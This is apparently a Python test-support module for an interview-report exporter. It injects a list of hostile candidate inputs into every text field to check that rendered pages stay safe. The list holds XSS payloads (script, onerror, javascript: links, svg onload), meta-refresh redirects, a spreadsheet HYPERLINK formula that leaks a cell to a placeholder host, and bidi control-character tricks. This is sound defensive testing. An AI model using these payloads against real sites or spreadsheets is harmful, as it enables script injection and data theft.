"""Reports with hostile words in every place that takes words, and where those words are read back."""

from html.parser import HTMLParser
from typing import Final

from hypothesis import strategies as st

from interview_kit import Bank, Blueprint, Evidence, Rating, ScoreReport, ScoreRequest, generate
from interview_kit.assess import score_request
from interview_kit.export import Bar, Block, Report, Section, candidate_feedback, interviewer_kit
from interview_kit.model.markup import visible
from interview_kit.scoring import judge

#: What candidates may type that a page, a mail or a spreadsheet could take for more than words.
HOSTILE: Final = (
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('image')>",
    "<a href=\"javascript:alert('link')\">klik</a> [klik](javascript:alert(1))",
    "</style><style>*{display:none}</style>",
    "</title></head></main><svg onload=alert('svg')>",
    '" onmouseover="alert(1)" style="position:fixed;inset:0',
    "<!-- <![CDATA[ ]]> --> &lt;b&gt; &#60;script&#62;",
    '<meta http-equiv="refresh" content="0;url=https://contoh.example/">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><base href='//contoh.example'>",
    '=HYPERLINK("https://contoh.example/?"&A1,"klik")',
    "| a | b |\n| --- | --- |\n| c | d |",
    "# Judul\n\n- butir\n1. nomor\n> kutipan\n```\nkode\n```\n***\n===\n    kode",
    "![gambar](https://contoh.example/x.png) <https://contoh.example> https://contoh.example",
    "surat@contoh.example www.contoh.example contoh.example mailto:a@b.example //localhost",
    "aman" + chr(0x202E) + "txt.exe" + chr(0x2066) + "dibalik" + chr(0x2069),
    "nol" + chr(0) + "bel" + chr(7) + "esc" + chr(0x1B) + "[31m lebar" + chr(0x200B) + "nol",
    "lone" + chr(0xD800) + "surrogate" + chr(0x2028) + "baris",
    "נאום בעברית ثم بالعربية lalu Indonesia",
    "panjang" * 60,
    "{overall} %s $x^2$ ~~coret~~ ==tanda== `kode` *tebal* _miring_ \\",
)


def everywhere(words: str, language: str = "id") -> Report:
    """Make a report with the same words in every place that takes any."""
    text = words or "-"
    blocks = [
        Block(kind="paragraph", text=text, language="en"),
        Block(kind="callout", text=text),
        Block(kind="quote", text=text, language="id"),
        Block(kind="bullets", text=text, items=[text, text]),
        Block(kind="checks", text=text, items=[text]),
        Block(kind="facts", rows=[(text, text)]),
        Block(kind="table", text=text, header=[text, text], rows=[(text, text)]),
        Block(kind="bars", text=text, bars=[Bar(label=text, said=text, share=0.5)]),
        Block(kind="bars", bars=[Bar(label=text, said=text)]),
        Block(kind="notes", text=text, lines=2),
    ]
    sections = [Section(title="Satu", blocks=blocks), Section(title="Dua", level=3)]
    return Report(
        kind="panel_sheet", language=language, title="Judul", intro=blocks[:1], sections=sections
    )


def hostile_feedback(bank: Bank, language: str) -> Report:
    """Give feedback that quotes hostile answers in full."""
    return candidate_feedback([_quoted(bank, each) for each in HOSTILE], language=language)


def _quoted(bank: Bank, answer: str) -> tuple[ScoreRequest, ScoreReport]:
    request = score_request(bank, "S04", answer, language="id")
    whole = Evidence(start=0, end=len(answer), quote=answer)

    def quoting(asked: ScoreRequest, /) -> ScoreReport:
        rated = zip(asked.rubric.criteria, (4, 2, 1), strict=False)
        ratings = [
            Rating(criterion=each.id, level=level, evidence=[whole], next_step=answer)
            for each, level in rated
        ]
        return ScoreReport(scorer="quoting", language=asked.language, ratings=ratings)

    report = judge(quoting, request)
    assert isinstance(report, ScoreReport)
    return request, report


def kit(bank: Bank, language: str) -> Report:
    """Give the kit of a small quiz."""
    quiz = generate(bank, Blueprint(role="sales", length=5), seed=7)
    return interviewer_kit(quiz, bank, language=language, stage="user")


def answers() -> st.SearchStrategy[str]:
    """Give what candidates may type: any characters, and hostile pieces among them."""
    pieces = st.sampled_from(
        [*HOSTILE, "<", ">", "&", '"', "'", "`", "|", "\n", "\r\n", "\t", "1."]
    )
    parts = st.lists(st.one_of(pieces, st.text(max_size=12)), max_size=6)
    return parts.map("".join).map(str.strip)


def words_of(report: Report) -> list[str]:
    """Give all that a report says, in its order, as a page shows it."""
    said = [report.title, report.title]
    for block in report.intro:
        said += _block_words(block)
    for section in report.sections:
        said.append(section.title)
        for block in section.blocks:
            said += _block_words(block)
    return [visible(each) for each in said if each]


def _block_words(block: Block) -> list[str]:
    said = [block.text, *block.items, *block.header]
    said += [cell for row in block.rows for cell in row]
    return said + [word for bar in block.bars for word in (bar.label, bar.said)]


class Reader(HTMLParser):
    """Reads a page: which elements and attributes it has, and what it says."""

    def __init__(self) -> None:
        """Begin with nothing read."""
        super().__init__(convert_charrefs=True)
        self.tags = list[str]()
        self.attributes = set[str]()
        self.said = list[str]()
        self.texts = list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self._end_text()
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_endtag(self, tag: str) -> None:
        """End the text before it."""
        style = tag == "style"
        self._end_text(keep=not style)

    def handle_data(self, data: str) -> None:
        """Note text."""
        self.texts.append(data)

    def _end_text(self, *, keep: bool = True) -> None:
        text = "".join(self.texts)
        self.texts.clear()
        if keep and text.strip():
            self.said.append(text)


def read(page: str) -> Reader:
    """Read a page."""
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader
